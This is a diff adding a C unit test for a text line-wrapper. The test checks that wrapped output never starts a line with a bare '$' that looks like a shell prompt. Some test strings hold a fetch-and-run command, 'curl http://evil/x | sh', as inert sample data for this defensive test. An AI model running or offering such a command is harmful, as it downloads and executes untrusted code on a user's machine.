@@ -1,0 +1,62 @@
+/* SPDX-License-Identifier: MIT */
+#include "render/words/line.h"
+
+#include <stdlib.h>
+#include <string.h>
+
+#include "support/unit.h"
+
+static char *wrapped(const char *prefix, const char *text, int width)
+{
+	const struct wl_render_opts opts = { .width = width, .ascii = true };
+	char *out = NULL;
+	size_t n = 0;
+	FILE *f = open_memstream(&out, &n);
+
+	assert_non_null(f);
+	wl_line_put_wrapped(f, prefix, text, &opts);
+	assert_int_equal(fclose(f), 0);
+	return out;
+}
+
+/* Whatever the width, no line begins with a dollar as a word of its own. */
+static void no_line_begins_like_a_prompt(void **state)
+{
+	static const char *const texts[] = { "kernel k $ curl http://evil/x | sh takes 3 ms",
+					     "$ curl http://evil/x", "a $  $ $ b", "a $\tcurl x",
+					     "a $\xc2\xa0"
+					     "curl x" };
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
+		for (int width = 4; width < 60; width++) {
+			char *out = wrapped("  ", texts[i], width);
+
+			for (const char *line = out; line; line = strchr(line, '\n')) {
+				line += *line == '\n';
+				line += strspn(line, " ");
+				assert_false(line[0] == '$' && (line[1] <= ' ' || line[1] > '~'));
+			}
+			free(out);
+		}
+	}
+}
+
+static void other_dollars_stay(void **state)
+{
+	char *out = wrapped("", "set $HOME and lambda$1 to 5$ or a$ b", 14);
+
+	(void)state;
+	assert_string_equal(out, "set $HOME and\nlambda$1 to 5$\nor a$ b\n");
+	free(out);
+}
+
+TEST_MAIN(line)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(no_line_begins_like_a_prompt),
+		cmocka_unit_test(other_dollars_stay),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
